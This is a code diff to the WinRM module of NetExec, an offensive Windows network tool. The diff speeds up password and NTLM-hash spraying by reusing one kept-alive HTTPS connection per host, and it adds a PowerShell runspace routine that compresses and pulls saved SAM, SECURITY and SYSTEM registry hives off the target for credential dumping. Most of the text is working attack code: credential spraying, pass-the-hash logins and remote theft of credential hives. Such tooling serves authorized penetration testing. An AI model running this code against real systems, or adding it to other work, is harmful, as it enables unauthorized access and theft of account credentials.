@@ -1,5 +1,7 @@
 import os
+import gzip
 import base64
+import hashlib
 import requests
 import urllib3
 import logging
@@ -9,6 +11,9 @@ from io import StringIO
 from datetime import datetime
 from pypsrp.wsman import NAMESPACES
 from pypsrp.client import Client
+from pypsrp.exceptions import WinRMError
+from pypsrp.powershell import PowerShell, RunspacePool
+from requests.adapters import HTTPAdapter
 
 from impacket.examples.secretsdump import LocalOperations, LSASecrets, SAMHashes
 
@@ -17,6 +22,7 @@ from nxc.connection import connection
 from nxc.helpers.bloodhound import add_user_bh
 from nxc.helpers.misc import gen_random_string
 from nxc.helpers.ntlm_parser import parse_challenge
+from nxc.helpers.powershell import get_ps_script
 from nxc.logger import NXCAdapter
 
 
@@ -35,6 +41,8 @@ class winrm(connection):
         self.nthash = ""
         self.ssl = False
         self.challenge_header = None
+        self.http_adapter = None
+        self.pool_authenticated = False
 
         connection.__init__(self, args, db, host)
 
@@ -103,7 +111,7 @@ class winrm(connection):
             self.port = endpoints[protocol]["port"]
             try:
                 self.logger.debug(f"Requesting URL: {endpoints[protocol]['url']}")
-                res = requests.post(endpoints[protocol]["url"], headers=headers, verify=False, timeout=self.args.http_timeout)
+                res = self.pooled(requests.Session()).post(endpoints[protocol]["url"], headers=headers, verify=False, timeout=self.args.http_timeout)
                 self.logger.debug(f"Received response code: {res.status_code}")
                 self.challenge_header = res.headers["WWW-Authenticate"]
                 if (not self.challenge_header) or ("Negotiate" not in self.challenge_header):
@@ -121,6 +129,51 @@ class winrm(connection):
                     self.logger.info(f"Other ConnectionError to WinRM service: {e}")
         return False
 
+    def pooled(self, session, transport=None):
+        """Mounts the connection pool of the host on a requests session.
+
+        The NTLM probe, every login attempt and the commands run afterwards all go through the same kept-alive HTTP(S)
+        connection: a failed NTLM authentication is answered with a 401 but doesn't close it, so a spray over HTTPS
+        only pays for one TLS handshake per host instead of one per credential. Once a login authenticated the
+        connection, the pool is dropped by the next create_client so that the next credential isn't tried on it.
+
+        On the session built by pypsrp for a transport, the pool takes over the retry policy of its adapters, and its
+        HTTPS adapter is left in place if it holds the password of a client certificate key.
+        """
+        if self.http_adapter is None:
+            self.http_adapter = HTTPAdapter(pool_connections=1, pool_maxsize=1)
+        if transport is not None:
+            # Retries of connection errors and 425/429/503 answers as configured on the transport
+            self.http_adapter.max_retries = session.get_adapter(transport.endpoint).max_retries
+        session.mount("http://", self.http_adapter)
+        if transport is None or not getattr(transport, "certificate_key_password", None):
+            session.mount("https://", self.http_adapter)
+        return session
+
+    def drop_pool(self):
+        """Closes the connection pool of the host, the next session gets a new connection"""
+        if self.http_adapter is not None:
+            self.http_adapter.close()
+            self.http_adapter = None
+        self.pool_authenticated = False
+
+    def create_client(self, password):
+        if self.pool_authenticated:
+            # the NTLM context of the previous login is bound to the kept-alive connection
+            self.drop_pool()
+        self.conn = Client(
+            self.host,
+            port=self.port,
+            auth="ntlm",
+            username=f"{self.domain}\\{self.username}",
+            password=password,
+            ssl=self.ssl,
+            cert_validation=False,
+        )
+        # pypsrp builds its requests session (with its own connection pool) on the first message, build it beforehand
+        transport = self.conn.wsman.transport
+        transport.session = self.pooled(transport._build_session(), transport)
+
     def check_if_admin(self):
         wsman = self.conn.wsman
         wsen = NAMESPACES["wsen"]
@@ -140,17 +193,10 @@ class winrm(connection):
         self.username = username
         self.domain = domain
         try:
-            self.conn = Client(
-                self.host,
-                port=self.port,
-                auth="ntlm",
-                username=f"{self.domain}\\{self.username}",
-                password=self.password,
-                ssl=self.ssl,
-                cert_validation=False,
-            )
+            self.create_client(self.password)
 
             self.check_if_admin()
+            self.pool_authenticated = True
             self.logger.success(f"{self.domain}\\{self.username}:{process_secret(self.password)} {self.mark_pwned()}")
 
             self.logger.debug(f"Adding credential: {domain}/{self.username}:{self.password}")
@@ -169,6 +215,8 @@ class winrm(connection):
             if "with ntlm" in str(e):
                 self.logger.fail(f"{self.domain}\\{self.username}:{process_secret(self.password)}")
             else:
+                # other errors may come after the authentication (e.g. not allowed to use WinRM)
+                self.pool_authenticated = True
                 self.logger.fail(f"{self.domain}\\{self.username}:{process_secret(self.password)} {e!s}")
             return False
 
@@ -188,17 +236,10 @@ class winrm(connection):
         self.domain = domain
 
         try:
-            self.conn = Client(
-                self.host,
-                port=self.port,
-                auth="ntlm",
-                username=f"{self.domain}\\{self.username}",
-                password=f"{self.lmhash}:{self.nthash}",
-                ssl=self.ssl,
-                cert_validation=False,
-            )
+            self.create_client(f"{self.lmhash}:{self.nthash}")
 
             self.check_if_admin()
+            self.pool_authenticated = True
             self.logger.success(f"{self.domain}\\{self.username}:{process_secret(nthash)} {self.mark_pwned()}")
 
             if self.admin_privs:
@@ -213,6 +254,8 @@ class winrm(connection):
             if "with ntlm" in str(e):
                 self.logger.fail(f"{self.domain}\\{self.username}:{process_secret(self.nthash)}")
             else:
+                # other errors may come after the authentication (e.g. not allowed to use WinRM)
+                self.pool_authenticated = True
                 self.logger.fail(f"{self.domain}\\{self.username}:{process_secret(self.nthash)} {e!s}")
             return False
 
@@ -246,6 +289,35 @@ class winrm(connection):
     def ps_execute(self):
         self.execute(payload=self.args.ps_execute, get_output=True, shell_type="powershell")
 
+    def fetch_hives(self, hives):
+        """Fetches saved hives, given as a dict of remote path to local path, each one in its own runspace of one pool.
+
+        The hives are gzip compressed on the target and sent as base64 chunks of --fetch-chunk-size KB: all pipelines
+        are started before the output of the first one is received, so the target compresses them concurrently.
+        """
+        with open(get_ps_script("winrm_fetch/fetch_hive.ps1")) as script_file:
+            script = script_file.read()
+
+        with RunspacePool(self.conn.wsman, min_runspaces=len(hives), max_runspaces=len(hives)) as pool:
+            pipelines = {}
+            for remote_path in hives:
+                powershell = PowerShell(pool)
+                powershell.add_script(script).add_argument(remote_path).add_argument(self.args.fetch_chunk_size * 1024)
+                powershell.begin_invoke()
+                pipelines[remote_path] = powershell
+
+            for remote_path, powershell in pipelines.items():
+                powershell.end_invoke()
+                if powershell.had_errors:
+                    raise WinRMError(f"Failed to fetch file {remote_path}: " + "\n".join(str(error) for error in powershell.streams.error))
+
+                compressed = b"".join(base64.b64decode(chunk) for chunk in powershell.output[:-1])
+                if hashlib.sha1(compressed).hexdigest() != powershell.output[-1]:
+                    raise WinRMError(f"Failed to fetch file {remote_path}, hash mismatch")
+                with open(hives[remote_path], "wb") as hive_file:
+                    hive_file.write(gzip.decompress(compressed))
+                self.logger.debug(f"Fetched {remote_path} ({len(compressed)} bytes compressed) to {hives[remote_path]}")
+
     # Dos attack prevent:
     # if someboby executed "reg save HKLM\sam C:\windows\temp\sam" before, but didn't remove "C:\windows\temp\sam" file,
     # when user execute the same command next time, in tty shell, the prompt will ask "File C:\windows\temp\sam already exists. Overwrite (Yes/No)?"
@@ -259,8 +331,10 @@ class winrm(connection):
         clean_command = f"del C:\\windows\\temp\\{sam_storename} && del C:\\windows\\temp\\{system_storename}"
         try:
             self.conn.execute_cmd(dump_command) if self.args.dump_method == "cmd" else self.conn.execute_ps(f"cmd /c '{dump_command}'")
-            self.conn.fetch(f"C:\\windows\\temp\\{sam_storename}", self.output_filename + ".sam")
-            self.conn.fetch(f"C:\\windows\\temp\\{system_storename}", self.output_filename + ".system")
+            self.fetch_hives({
+                f"C:\\windows\\temp\\{sam_storename}": f"{self.output_filename}.sam",
+                f"C:\\windows\\temp\\{system_storename}": f"{self.output_filename}.system",
+            })
             self.conn.execute_cmd(clean_command) if self.args.dump_method == "cmd" else self.conn.execute_ps(f"cmd /c '{clean_command}'")
         except Exception as e:
             if ("does not exist" in str(e)) or ("TransformFinalBlock" in str(e)):
@@ -288,8 +362,10 @@ class winrm(connection):
         clean_command = f"del C:\\windows\\temp\\{security_storename} && del C:\\windows\\temp\\{system_storename}"
         try:
             self.conn.execute_cmd(dump_command) if self.args.dump_method == "cmd" else self.conn.execute_ps(f"cmd /c '{dump_command}'")
-            self.conn.fetch(f"C:\\windows\\temp\\{security_storename}", f"{self.output_filename}.security")
-            self.conn.fetch(f"C:\\windows\\temp\\{system_storename}", f"{self.output_filename}.system")
+            self.fetch_hives({
+                f"C:\\windows\\temp\\{security_storename}": f"{self.output_filename}.security",
+                f"C:\\windows\\temp\\{system_storename}": f"{self.output_filename}.system",
+            })
             self.conn.execute_cmd(clean_command) if self.args.dump_method == "cmd" else self.conn.execute_ps(f"cmd /c '{clean_command}'")
         except Exception as e:
             if ("does not exist" in str(e)) or ("TransformFinalBlock" in str(e)):